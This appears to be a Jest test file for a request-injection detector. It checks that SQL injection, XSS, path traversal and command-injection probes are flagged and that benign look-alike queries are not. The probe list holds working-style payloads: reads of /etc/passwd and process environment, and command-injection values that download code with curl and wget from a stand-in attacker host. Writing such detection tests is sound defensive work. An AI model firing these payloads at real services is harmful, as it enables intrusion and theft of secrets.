import { describe, expect, it } from '@jest/globals';
import { detectInjection, matchSignatures } from './injection.js';

describe(detectInjection.name, () => {
  it.each([
    ['sqli', '/v1/products', "id=1' OR '1'='1"],
    ['sqli', '/v1/products', 'id=1%27%20OR%201%3D1--'],
    ['sqli', '/v1/users', "name=admin'--"],
    ['sqli', '/v1/search', 'q=1+UNION+ALL+SELECT+username,password+FROM+users'],
    ['sqli', '/v1/search', 'q=1 UNION/**/SELECT null,version()'],
    ['sqli', '/v1/orders', "id=1;DROP TABLE orders"],
    ['sqli', '/v1/orders', 'id=1 AND SLEEP(5)'],
    ['sqli', '/v1/orders', "id=1';WAITFOR DELAY '0:0:5'--"],
    ['sqli', '/v1/report', 'q=select table_name from information_schema.tables'],
    ['xss', '/v1/comments', 'text=<script>alert(document.cookie)</script>'],
    ['xss', '/v1/comments', 'text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'],
    ['xss', '/v1/profile', 'url=javascript:alert(1)'],
    ['xss', '/v1/search', 'q=%253Csvg%2520onload%253Dalert(1)%253E'],
    ['traversal', '/static/../../../../etc/passwd', ''],
    ['traversal', '/download', 'file=..%2F..%2F..%2Fetc%2Fpasswd'],
    ['traversal', '/files/%2e%2e/%2e%2e/windows/win.ini', ''],
    ['traversal', '/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/shadow', ''],
    ['cmd', '/v1/ping', 'host=8.8.8.8;cat /proc/self/environ'],
    ['cmd', '/v1/ping', 'host=127.0.0.1%7C%7Cwhoami'],
    ['cmd', '/v1/convert', 'file=a.png$(curl http://evil.example/x.sh)'],
    ['cmd', '/v1/convert', 'name=`id`'],
    ['cmd', '/v1/tools', 'cmd=ls && wget http://203.0.113.5/bot'],
  ])('flags a %s probe: %s?%s', (kind, path, query) => {
    expect(detectInjection(path, query)?.kind).toBe(kind);
  });

  it.each([
    ['/v1/products', 'select=name,price&order=desc'],
    ['/v1/authors', "q=O'Reilly"],
    ['/v1/authors', "q=it's or never"],
    ['/v1/stations', 'q=union station chicago'],
    ['/v1/widgets', 'onload=1&defer=true'],
    ['/v1/orders', 'status=open&id=5&sort=created_at'],
    ['/v1/search', 'q=wait...what'],
    ['/v1/files;jsessionid=ab12', ''],
    ['/v1/docs/javascript-guide', 'topic=javascript'],
    ['/v1/search', 'q=drop+shipping+table+lamps'],
    ['/v1/search', 'q=cats%26dogs%3B+birds'],
    ['/v1/sleep-tracker/records', 'from=2024-01-01&to=2024-01-31'],
    ['/v1/catalog/ls-series/items', 'q=rm+2000&category=id-cards'],
    ['/v1/versions/1..2', ''],
    ['/v1/orders/%E2%82%AC', 'currency=%E2%82%AC&note=100%25+done'],
  ])('leaves a benign look-alike alone: %s?%s', (path, query) => {
    expect(detectInjection(path, query)).toBeNull();
  });

  it('checks only the kinds it is given', () => {
    expect(detectInjection('/x', "id=1' OR '1'='1", ['xss'])).toBeNull();
  });

  it('agrees with the signatures alone on generated probes and look-alikes (the pre-filter only skips clean input)', () => {
    const parts = [
      "'", '"', ';', '(', ')', '<', '>', '%', '%27', '%2e', '%2F', '%253C', '%7C', '|', '||', '&', '&&', '`', '$', '$(', '..', '/', '\\', '=', ' ', '+', '\t',
      'or', 'OR', 'and', '1', 'a', 'x', 'union', 'UNION', 'select', 'SeLeCt', 'all', '/**/', 'drop', 'table', 'delete', 'from', 'sleep', 'waitfor', 'delay',
      '--', '#', '/*', 'information_schema', 'xp_cmdshell', 'script', 'img', 'svg', 'src', 'onerror', 'onload', 'OnFocus', 'javascript', ':', 'document', '.cookie',
      'etc', '/etc/', 'passwd', 'win', '.ini', 'boot', '%c0%ae', '%uff0e', 'cat', 'ls', 'id', 'whoami', 'curl', 'ping', 'v1', 'orders',
    ];
    let seed = 12345;
    const random = (): number => {
      seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
      return seed / 2 ** 32;
    };
    const make = (): string => Array.from({ length: 1 + Math.floor(random() * 8) }, () => parts[Math.floor(random() * parts.length)]!).join('');
    let flagged = 0;
    let clean = 0;
    for (let i = 0; i < 5_000; i++) {
      const path = `/${make()}`;
      const query = random() < 0.3 ? '' : make();
      const expected = matchSignatures(path, query);
      expect(detectInjection(path, query)).toEqual(expected);
      if (expected) flagged++;
      else clean++;
    }
    // both outcomes well represented, so the comparison means something
    expect(flagged).toBeGreaterThan(500);
    expect(clean).toBeGreaterThan(500);
  });
});
